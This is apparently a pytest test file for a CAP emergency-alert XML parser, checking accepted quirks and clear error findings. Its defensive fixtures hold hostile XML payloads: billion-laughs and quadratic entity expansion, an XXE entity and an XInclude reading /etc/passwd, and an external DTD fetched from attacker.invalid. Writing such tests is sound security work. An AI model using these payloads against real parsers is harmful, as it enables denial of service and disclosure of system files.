"""The parse pipeline end to end: real-world quirks accepted, bad input refused with a clear
finding (never an exception), findings placed on the right path and line."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta, timezone
from decimal import Decimal

import pytest
from lxml import etree

from hub.cap.model import AlertKey, Category, MsgType, Scope, Status
from hub.cap.parse import identify, parse
from hub.cap.problems import Code, Level
from tests.cap.samples import FULL, MINIMAL, full_with, minimal_with


def codes(data: bytes, **kw: object) -> set[str]:
    return {str(p.code) for p in parse(data, **kw).problems if p.is_error}  # type: ignore[arg-type]


def test_full_fixture_parses_into_the_model() -> None:
    result = parse(FULL)
    assert result.ok, result.problems
    alert = result.alert
    assert alert is not None
    assert alert.identifier == "BE-NCCN-2026-0042"
    assert alert.sent == datetime(2026, 11, 24, 10, 15, tzinfo=timezone(timedelta(hours=1)))
    assert alert.status is Status.ACTUAL and alert.msg_type is MsgType.ALERT
    assert alert.scope is Scope.PUBLIC
    assert alert.codes == ("BE-PROFILE-1.0",)
    assert alert.incident_list == ("INC-7", "Brussels fire")
    nl, fr = alert.infos
    assert nl.language == "nl-BE" and fr.lang == "fr-BE"
    assert nl.categories == (Category.FIRE, Category.SAFETY)
    assert nl.event_codes[0].value_name == "BE-EVENT"
    area = nl.areas[0]
    assert area.altitude == Decimal("0") and area.ceiling == Decimal("300")
    assert len(area.polygons[0].points()) == 5
    assert area.circles[0].radius_km == 2.5
    assert nl.resources[0].size == 1024


def test_minimal_alert_and_default_language() -> None:
    result = parse(MINIMAL)
    assert result.ok and result.alert is not None
    assert result.alert.infos == ()
    assert result.alert.sent.utcoffset() == timedelta(0)


def test_any_prefix_bom_iso_8859_1_and_processing_instructions() -> None:
    prefixed = MINIMAL.decode().replace("<alert xmlns=", "<cap:alert xmlns:cap=").replace(
        "</alert>", "</cap:alert>")
    prefixed = "\n".join(
        line.replace("<", "<cap:", 1).replace("</", "</cap:", 1)
        if line.startswith("  <") else line for line in prefixed.splitlines())
    assert parse(prefixed.encode()).ok
    assert parse(b"\xef\xbb\xbf" + MINIMAL).ok
    latin = FULL.decode().replace('encoding="UTF-8"', 'encoding="ISO-8859-1"').encode("latin-1")
    result = parse(latin)
    assert result.ok and result.alert is not None
    assert result.alert.infos[1].headline == "Importante fumée à Anderlecht"
    styled = MINIMAL.replace(b"?>\n", b'?>\n<?xml-stylesheet type="text/xsl" href="cap.xsl"?>\n', 1)
    assert parse(styled).ok


def test_comment_inside_text_is_ignored() -> None:
    result = parse(minimal_with("<identifier>MIN-1", "<identifier>MIN<!-- split -->-1"))
    assert result.ok and result.alert is not None and result.alert.identifier == "MIN-1"


def test_signature_element_is_not_part_of_the_model() -> None:
    dsig = '<Signature xmlns="http://www.w3.org/2000/09/xmldsig#"><SignedInfo/></Signature></alert>'
    result = parse(minimal_with("</alert>", dsig))
    assert result.ok, result.problems


# --- bad input: each a clear finding, never a traceback ------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;">]>
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>&lol4;</identifier></alert>"""

QUADRATIC = (b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x "' + b"x" * 50_000 + b'">]>'
             b'<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><note>' + b"&x;" * 5_000
             + b"</note></alert>")

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE alert [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>&xxe;</identifier></alert>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE alert SYSTEM "http://attacker.invalid/cap.dtd">
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"/>"""

XINCLUDE = minimal_with("<identifier>MIN-1</identifier>",
                        '<identifier>MIN-1</identifier><xi:include '
                        'xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" '
                        'parse="text"/>')


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"this is not XML", Code.XML_MALFORMED),
        (b"", Code.XML_EMPTY),
        (MINIMAL[: len(MINIMAL) // 2], Code.XML_MALFORMED),
        (BILLION_LAUGHS, Code.XML_DTD),
        (QUADRATIC, Code.XML_DTD),
        (EXTERNAL_ENTITY, Code.XML_DTD),
        (EXTERNAL_DTD, Code.XML_DTD),
        (XINCLUDE, Code.XML_XINCLUDE),
    ],
    ids=["not-xml", "empty", "truncated", "billion-laughs", "quadratic", "external-entity",
         "external-dtd", "xinclude"],
)
def test_hostile_or_broken_xml_is_refused(data: bytes, code: Code) -> None:
    result = parse(data)
    assert result.alert is None
    assert [p.code for p in result.problems] == [code]
    assert result.problems[0].message


def test_document_over_the_size_limit() -> None:
    result = parse(FULL, max_bytes=1000)
    assert [p.code for p in result.problems] == [Code.XML_TOO_LARGE]
    assert "1,000" in result.problems[0].message


@pytest.mark.parametrize(
    ("namespace", "version"),
    [("urn:oasis:names:tc:emergency:cap:1.1", "1.1"), ("http://www.incident.com/cap/1.0", "1.0")],
)
def test_older_cap_versions_are_refused_by_name(namespace: str, version: str) -> None:
    result = parse(minimal_with("urn:oasis:names:tc:emergency:cap:1.2", namespace))
    assert [p.code for p in result.problems] == [Code.CAP_VERSION]
    assert version in result.problems[0].message


def test_wrong_root_or_namespace() -> None:
    assert codes(b'<feed xmlns="http://www.w3.org/2005/Atom"/>') == {Code.CAP_ROOT}
    assert codes(minimal_with(' xmlns="urn:oasis:names:tc:emergency:cap:1.2"', "")) == {Code.CAP_ROOT}


def test_schema_findings_name_the_element() -> None:
    missing = parse(minimal_with("<status>Actual</status>", ""))
    assert missing.alert is None
    assert any("status" in p.message for p in missing.problems)
    swapped = parse(minimal_with("<status>Actual</status>\n  <msgType>Alert</msgType>",
                                 "<msgType>Alert</msgType>\n  <status>Actual</status>"))
    assert swapped.alert is None and swapped.problems[0].line is not None
    bad_enum = parse(minimal_with("<status>Actual</status>", "<status>Real</status>"))
    assert [p.path for p in bad_enum.problems] == ["/alert/status"]
    zulu = parse(minimal_with("-00:00</sent>", "Z</sent>"))
    assert [p.path for p in zulu.problems] == ["/alert/sent"]


def test_rule_findings_carry_path_and_line() -> None:
    update = full_with("<msgType>Alert</msgType>", "<msgType>Update</msgType>")
    result = parse(update.replace(b"<incidents>", b"<references/><incidents>"))
    assert result.alert is None or not result.ok
    refs = [p for p in result.problems if p.code == Code.REFERENCES_REQUIRED]
    assert refs and refs[0].path == "/alert/references" and refs[0].line == 12
    open_polygon = full_with("50.85,4.29 50.83,4.29</polygon>", "50.85,4.29</polygon>")
    found = [p for p in parse(open_polygon).problems if p.is_error]
    assert found and found[0].path == "/alert/info[1]/area[1]/polygon[1]"
    assert found[0].line == FULL.decode().splitlines().index(
        next(line for line in FULL.decode().splitlines() if "<polygon>" in line)) + 1
    no_radius = full_with("<circle>50.84,4.30 2.5</circle>", "<circle>50.84,4.30</circle>")
    assert Code.CIRCLE_SYNTAX in codes(no_radius)
    spaced = full_with("<identifier>BE-NCCN-2026-0042", "<identifier>BE NCCN-2026-0042")
    assert Code.IDENTIFIER_CHARS in codes(spaced)


def test_warnings_do_not_refuse() -> None:
    result = parse(minimal_with("<scope>Public</scope>", "<scope>Public</scope><restriction/>"))
    assert result.ok
    assert [p.level for p in result.problems] == [Level.WARNING]


def test_identify_salvages_the_key_of_an_invalid_message() -> None:
    root = etree.fromstring(minimal_with("<status>Actual</status>", "<status>Bogus</status>"))
    key = identify(root)
    assert key == AlertKey("min@example.be", "MIN-1",
                           datetime(2026, 11, 24, 10, 15, tzinfo=UTC))
    assert identify(etree.fromstring(b"<alert><identifier>x y</identifier></alert>")) is None
